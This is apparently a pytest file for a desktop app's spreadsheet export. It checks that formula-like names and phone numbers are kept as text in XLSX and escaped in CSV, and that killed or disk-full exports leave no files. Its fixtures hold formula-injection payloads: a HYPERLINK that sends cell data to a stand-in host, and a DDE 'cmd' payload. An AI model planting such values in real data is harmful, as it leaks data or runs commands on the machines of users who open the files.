"""Text that arrives is never executed where it lands; a killed or failing export leaves nothing.

Names and phone numbers are what assessors typed (or what a package carried): the workbook
keeps every one as a text cell, the CSV escapes those a spreadsheet program would run. The
export's temporary files stay beside the target (never in the system's temporary folder),
and a full disk is a message, not a traceback; both tried with a real process.
"""

from __future__ import annotations

import csv
import os
import signal
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest
from openpyxl import load_workbook

from ombud_desktop.exports.spreadsheet import export_spreadsheet
from ombud_desktop.instruments import builtin_instrument
from ombud_desktop.services.assessments import AssessmentService, NewAssessment
from ombud_desktop.services.demo import generate_demo
from ombud_desktop.storage import Workspace

ROOT = Path(__file__).resolve().parents[2]
ENTITY = '=HYPERLINK("http://contoh.invalid/?d="&A1,"Klik di sini")'
LOCUS = "=cmd|' /C calc'!A0"
PROVINCE = "@SUM(1+1)"
PHONES = ["+62 812-3456-7890", "=1+1", "-2+3", "@x", "#N/A", "=HYPERLINK(\"x\")"]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Workspace]:
    """A demo workspace plus one assessment whose names and phones look like formulas."""
    folder = tmp_path_factory.mktemp("hostile") / "ws"
    instrument = builtin_instrument("ori-2023")
    with Workspace.open(folder) as workspace:
        workspace.set_profile("Siti Aminah", None)
        generate_demo(workspace, instrument, entities=2, seed=7)
        service = AssessmentService(workspace)
        assessment_id = service.create(
            instrument,
            NewAssessment("kabupaten", ENTITY, PROVINCE, LOCUS, 2024, products=("-produk",)),
        ).value
        for phone in PHONES:
            service.add_service_user(
                assessment_id, consent=True, callback_consent=True, phone=phone
            )
    workspace = Workspace.open(folder)
    yield workspace
    workspace.close()


def test_every_text_cell_of_the_workbook_is_text_never_a_formula(
    hostile: Workspace, tmp_path: Path
) -> None:
    out = tmp_path / "hasil.xlsx"
    export_spreadsheet(hostile, out, personal_data=True)
    book = load_workbook(out)  # not read-only: each cell's data type as stored
    seen: set[str] = set()
    kinds: dict[str, int] = {}
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                kinds[cell.data_type] = kinds.get(cell.data_type, 0) + 1
                if isinstance(cell.value, str):
                    assert cell.data_type == "s", (sheet.title, cell.coordinate, cell.value)
                    seen.add(cell.value)
    assert "f" not in kinds
    assert "e" not in kinds
    assert {ENTITY, LOCUS, PROVINCE, *PHONES} <= seen


def read_csv(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as stream:
        return list(csv.reader(stream))


@pytest.mark.parametrize("sheet", ["entities", "loci", "service-users"])
def test_csv_cells_that_would_run_as_formulas_are_escaped(
    hostile: Workspace, tmp_path: Path, sheet: str
) -> None:
    out = tmp_path / f"{sheet}.csv"
    export_spreadsheet(hostile, out, sheet=sheet, personal_data=True)
    cells = [cell for row in read_csv(out) for cell in row]
    for cell in cells:
        if cell.startswith(FORMULA_START):
            float(cell)  # only a number (a negative one) may start so
    assert f"'{ENTITY}" in cells
    if sheet != "entities":
        assert f"'{LOCUS}" in cells
    if sheet == "service-users":
        assert {f"'{phone}" for phone in PHONES if phone.startswith(FORMULA_START)} <= set(cells)
        assert "#N/A" in cells


# -- a real process: killed while it writes, or out of disk space -------------------------------

HOLD = """
import sys
from ombud_desktop.cli.main import main
from ombud_desktop.exports import tables

rows = tables.service_user_rows

def held(*args, **kwargs):
    for row in rows(*args, **kwargs):
        yield row
        print("written", flush=True)
        sys.stdin.read()  # wait here, in the middle of the export, until killed

tables.service_user_rows = held
sys.exit(main(sys.argv[1:]))
"""


def run_env(tmp_path: Path) -> dict[str, str]:
    temporary = tmp_path / "system-tmp"
    temporary.mkdir(exist_ok=True)
    # Its own log folder: the shared one may already be larger than the file-size limit
    # some of these runs set, and then the log (not the export) would hit it.
    env = dict(os.environ, TMPDIR=str(temporary), PYTHONPATH=str(ROOT),
               OMBUD_LOG_DIR=str(tmp_path / "log"))
    env.pop("OMBUD_DEBUG", None)
    return env


def test_a_killed_export_leaves_nothing_in_the_system_temporary_folder(
    hostile: Workspace, tmp_path: Path
) -> None:
    out_dir = tmp_path / "keluar"
    out_dir.mkdir()
    target = out_dir / "hasil.xlsx"
    env = run_env(tmp_path)
    args = ["--workspace", str(hostile.root), "spreadsheet", str(target), "--personal-data"]
    process = subprocess.Popen(
        [sys.executable, "-c", HOLD, *args],
        stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE, env=env,
        cwd=ROOT, text=True,
    )
    try:
        assert process.stdout is not None
        assert process.stdout.readline() == "written\n", process.stderr and process.stderr.read()
        process.send_signal(signal.SIGKILL)
        process.wait()
    finally:
        if process.poll() is None:
            process.kill()
            process.wait()
        for stream in (process.stdin, process.stdout, process.stderr):
            if stream is not None:
                stream.close()
    assert process.returncode == -signal.SIGKILL
    assert list(Path(env["TMPDIR"]).iterdir()) == []
    left = sorted(p.name for p in out_dir.iterdir())
    assert left, "the parts of a killed export are beside the target"
    assert all(name.startswith(".hasil.xlsx.") for name in left), left
    assert not target.exists()
    # The next export to the same file removes what the killed one left.
    export_spreadsheet(hostile, target, personal_data=True)
    assert [p.name for p in out_dir.iterdir()] == ["hasil.xlsx"]


FULL = """
import resource, signal, sys
from ombud_desktop.cli.main import main

assert main(["--workspace", sys.argv[1], "spreadsheet", sys.argv[2], "--quiet"]) == 0
# Writes past this many bytes into one file now fail (EFBIG), as on a full or FAT32 disk.
signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
resource.setrlimit(resource.RLIMIT_FSIZE, (int(sys.argv[3]), resource.RLIM_INFINITY))
sys.exit(main(["--workspace", sys.argv[1], "spreadsheet", sys.argv[4], "--personal-data"]))
"""


@pytest.mark.parametrize("name", ["hasil.xlsx", "pengguna.csv"])
def test_a_disk_too_small_is_a_message_and_leaves_no_file(
    hostile: Workspace, tmp_path: Path, name: str
) -> None:
    out_dir = tmp_path / "keluar"
    out_dir.mkdir()
    env = run_env(tmp_path)
    first, target = tmp_path / "pertama.xlsx", out_dir / name
    sheet = ["--sheet", "service-users"] if name.endswith(".csv") else []
    script = FULL.replace('"--personal-data"]', '"--personal-data", *sys.argv[5:]]')
    done = subprocess.run(
        [sys.executable, "-c", script, str(hostile.root), str(first), "20000", str(target), *sheet],
        capture_output=True, text=True, env=env, cwd=ROOT, check=False,
    )
    assert first.exists()  # the same export without a limit worked
    assert done.returncode == 2, done.stderr
    assert "Traceback" not in done.stderr
    assert "internal error" not in done.stderr
    assert f"error: {name}: cannot be written" in done.stderr
    assert "USB stick" in done.stderr  # the hint says what to do
    assert list(out_dir.iterdir()) == []
    assert list(Path(env["TMPDIR"]).iterdir()) == []
